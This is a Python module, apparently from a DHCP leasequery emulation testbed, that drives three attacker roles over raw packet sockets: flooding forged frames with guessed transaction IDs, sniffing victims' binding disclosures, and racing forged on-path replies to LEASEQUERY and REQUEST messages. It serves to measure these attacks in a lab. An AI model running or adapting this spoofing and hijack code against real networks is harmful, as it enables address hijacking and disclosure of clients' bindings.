"""Attackers on the wire: they send forged frames, watch what it gets them, or answer on the path.

    python -m lq.emulation.programs.hijacker send PLAN.json
    python -m lq.emulation.programs.hijacker tap PLAN.json
    python -m lq.emulation.programs.hijacker on-path PLAN.json

All print `ready`, and end on SIGTERM; `send` also by itself. `report_file` of the plan gets a JSON object.

send     `rows`, lists of a trial's number, a frame in hexadecimal digits, and how many guesses it stands
         for (0: the frame is sent as it is, once a round); `rounds`, each of which lasts `every` seconds;
         `seed` of the guesses; `interface`. With `wait` it begins on SIGUSR1. The report is that of
         `lq.emulation.programs.flood.flood`, and `sent`, frames by trial.
tap      counts on `interface` what is not its own: the report's `stolen`, a list of the address and the
         moment (monotonic, seconds) of each probe for one of `victims`, and `disclosed`, addresses of these
         that leasequery answers named, with their number. `victims` are hardware addresses by address;
         `answers` the message types that name a binding.
on-path  answers what passes `interface` from the relay to a server, with the frames in `queries` (by the
         address that a LEASEQUERY is about) and in `requests` (by the transaction identifier of a REQUEST),
         each with the number of its trial and a frame for each server. The report has `sent`, frames by
         trial. At most `MOST_ANSWERS` are sent.
"""

from __future__ import annotations

import json
import random
import signal
import socket
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from ipaddress import IPv4Address
from pathlib import Path
from threading import Event
from typing import Any

from lq import files
from lq.emulation.forgeries import XID_AT, guesses
from lq.emulation.programs.flood import flood
from lq.wire import MalformedMessage, MessageType, OptionCode, decode
from topologies.population.probes import PORT

MOST_ANSWERS = 10_000
MOST_STOLEN = 200_000  # packets noted one by one
_ETH_P_ALL, _OUTGOING, _UDP = 0x0003, 4, 17
_IPV4 = b"\x08\x00"
_BUFFER = 8 << 20


class _Ended(Exception):
    """SIGTERM came."""


def _end(*_: Any) -> None:
    raise _Ended


# -- sending


def order(rows: list[list[Any]], rounds: int, seed: int) -> Iterator[tuple[int, bytes]]:
    """Go through all that is sent: trial and frame, round by round.

    Guesses are spread over the rounds, and within one between the other frames.
    """
    plain = [(trial, bytes.fromhex(frame)) for trial, frame, guessed in rows if not guessed]
    forged = []
    for trial, frame, guessed in rows:
        identifiers = random.Random(f"{seed} {trial}").sample(range(1 << 32), guessed)
        forged.append([(trial, each) for each in guesses(bytes.fromhex(frame), identifiers)])
    mixed = [each for several in zip(*filter(None, forged), strict=False) for each in several]
    for number in range(rounds):
        share = mixed[len(mixed) * number // rounds : len(mixed) * (number + 1) // rounds]
        between = len(share) / max(1, len(plain))
        at = 0.0
        for each in plain:
            yield each
            yield from share[round(at) : round(at + between)]
            at += between
        yield from share[round(at) :]


def send(plan: dict[str, Any], begin: Callable[[Event], None]) -> dict[str, Any]:
    """Send until all is sent, or told to stop."""
    sequence = list(order(plan["rows"], plan["rounds"], plan["seed"]))
    rate = max(1.0, len(sequence) / (plan["rounds"] * plan["every"]))
    ended = Event()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((plan["interface"], 0))
        begin(ended)
        frames = [frame for _, frame in sequence]
        report = flood(out, frames, rate, len(frames), ended)
    tried = report["packets"] + report["refused"]
    return {**report, "sent": dict(Counter(trial for trial, _ in sequence[:tried]))}


# -- watching


def tap(plan: dict[str, Any]) -> dict[str, Any]:
    """Watch until told to stop."""
    by_octets = {IPv4Address(address).packed: address for address in plan["victims"]}
    by_mac = {bytes.fromhex(mac.replace(":", "")): address for address, mac in plan["victims"].items()}
    answers, clock = set(plan["answers"]), time.monotonic
    probe = PORT.to_bytes(2, "big")
    stolen: list[tuple[str, float]] = []
    disclosed: Counter[str] = Counter()
    with _listening(plan["interface"]) as ear:
        print("ready", flush=True)
        try:
            while True:
                frame, (_, _, kind, *_) = ear.recvfrom(4096)
                if kind == _OUTGOING or frame[12:14] != _IPV4 or frame[23] != _UDP:
                    continue
                start = 14 + (frame[14] & 15) * 4
                if frame[start + 2 : start + 4] == probe:
                    address = by_octets.get(frame[30:34])
                    if address is not None and len(stolen) < MOST_STOLEN:
                        stolen.append((address, clock()))
                else:
                    named = _named(frame[start + 8 :], answers, by_mac, by_octets)
                    if named is not None:
                        disclosed[named] += 1
        except _Ended:
            return {"stolen": stolen, "disclosed": dict(disclosed)}


def _named(
    octets: bytes, answers: set[int], by_mac: dict[bytes, str], by_octets: dict[bytes, str]
) -> str | None:
    """Return the address of the victim whose binding a message tells, None if it tells none."""
    try:
        message = decode(octets)
    except MalformedMessage:
        return None
    if message.message_type not in answers:
        return None
    if message.chaddr in by_mac:
        return by_mac[message.chaddr]
    personal = {OptionCode.CLIENT_IDENTIFIER, OptionCode.RELAY_AGENT_INFORMATION} & message.options.keys()
    return by_octets.get(message.ciaddr.packed) if personal or message.chaddr else None


def _listening(interface: str) -> socket.socket:
    """Return a packet socket that hears everything on an interface."""
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL))
    ear.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _BUFFER)
    ear.bind((interface, 0))
    return ear


# -- on the path


def on_path(plan: dict[str, Any]) -> dict[str, Any]:
    """Answer until told to stop."""
    queries = {IPv4Address(key).packed: _ready(value) for key, value in plan["queries"].items()}
    requests = {int(key).to_bytes(4, "big"): _ready(value) for key, value in plan["requests"].items()}
    query = bytes((OptionCode.MESSAGE_TYPE, 1, MessageType.LEASEQUERY))
    asked = bytes((OptionCode.MESSAGE_TYPE, 1, MessageType.REQUEST))
    sent: Counter[int] = Counter()
    with _listening(plan["interface"]) as ear:
        print("ready", flush=True)
        try:
            while True:
                frame, (_, _, kind, *_) = ear.recvfrom(4096)
                # All at fixed places: who answers first wins. The relay sends option 53 first, no IP options.
                told = frame[282:285]
                if kind == _OUTGOING or frame[12:14] != _IPV4 or told not in (query, asked):
                    continue
                xid = frame[XID_AT : XID_AT + 4]
                found = queries.get(frame[54:58]) if told == query else requests.get(xid)
                if found is None or sum(sent.values()) >= MOST_ANSWERS:
                    continue
                trial, by_server = found
                forged = by_server.get(frame[30:34])
                if forged is not None:
                    ear.send(forged[:XID_AT] + xid + forged[XID_AT + 4 :])
                    sent[trial] += 1
        except _Ended:
            return {"sent": dict(sent)}


def _ready(value: list[Any]) -> tuple[int, dict[bytes, bytes]]:
    """Return a trial's number, and its frame for each server."""
    trial, forged = value
    return trial, {IPv4Address(server).packed: bytes.fromhex(frame) for server, frame in forged.items()}


def main(what: str, plan: dict[str, Any]) -> None:
    """Do what is asked for, and write the report."""

    def begin(ended: Event) -> None:
        waited_for = {signal.SIGUSR1, signal.SIGTERM}
        if plan["wait"]:
            signal.pthread_sigmask(signal.SIG_BLOCK, waited_for)
        signal.signal(signal.SIGTERM, lambda *_: ended.set())
        print("ready", flush=True)
        if plan["wait"]:
            if signal.sigwait(waited_for) == signal.SIGTERM:
                ended.set()
            signal.pthread_sigmask(signal.SIG_UNBLOCK, waited_for)

    if what == "send":
        report = send(plan, begin)
    else:
        signal.signal(signal.SIGTERM, _end)
        report = {"tap": tap, "on-path": on_path}[what](plan)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    files.write(plan["report_file"], json.dumps(report).encode())


if __name__ == "__main__":
    main(sys.argv[1], json.loads(Path(sys.argv[2]).read_text()))
